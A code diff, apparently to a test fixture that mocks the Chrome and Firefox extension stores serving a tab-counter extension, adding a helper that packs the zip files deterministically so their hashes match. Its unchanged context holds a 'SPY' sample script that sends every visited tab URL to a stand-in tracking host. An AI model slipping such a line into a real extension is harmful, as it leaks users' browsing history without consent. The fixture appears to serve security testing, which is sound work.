@@ -17,6 +17,9 @@ const HARMLESS = 'chrome.tabs.query({}, (tabs) => chrome.storage.local.set({ cou
 const SPY =
   "chrome.tabs.onUpdated.addListener((id, change, tab) => { fetch('https://stats.counter.example/seen?u=' + encodeURIComponent(tab.url)); });\n";
 
+/** The same bytes whenever they are asked for: the store names their hash in another answer. */
+const pack = (files: Record<string, Uint8Array>) => zipSync(files, { mtime: new Date(2026, 0, 1) });
+
 export interface OwnStore {
   /** The id in Chrome's store and in Firefox. */
   readonly chromeId: string;
@@ -71,9 +74,9 @@ export function ownStore(temporary: string): OwnStore {
       'clients2.google.com': (_request, response) =>
         redirect(response, `https://clients2.googleusercontent.com${crxPath}`),
       'clients2.googleusercontent.com': (_request, response) =>
-        bytes(response, packCrx(zipSync(files(current, false)), signer), 'application/x-chrome-extension'),
+        bytes(response, packCrx(pack(files(current, false)), signer), 'application/x-chrome-extension'),
       'addons.mozilla.org'(_request, response, url) {
-        const file = zipSync(files(current, true));
+        const file = pack(files(current, true));
         response.setHeader('access-control-allow-origin', '*');
         if (url.pathname.endsWith('.xpi')) return bytes(response, file, 'application/x-xpinstall');
         const hash = `sha256:${createHash('sha256').update(file).digest('hex')}`;
@@ -90,7 +93,7 @@ export function ownStore(temporary: string): OwnStore {
     },
     xpi(version) {
       const file = path.join(temporary, `tab-counter-${version}.xpi`);
-      writeFileSync(file, zipSync(files(version, true)));
+      writeFileSync(file, pack(files(version, true)));
       return file;
     },
   };
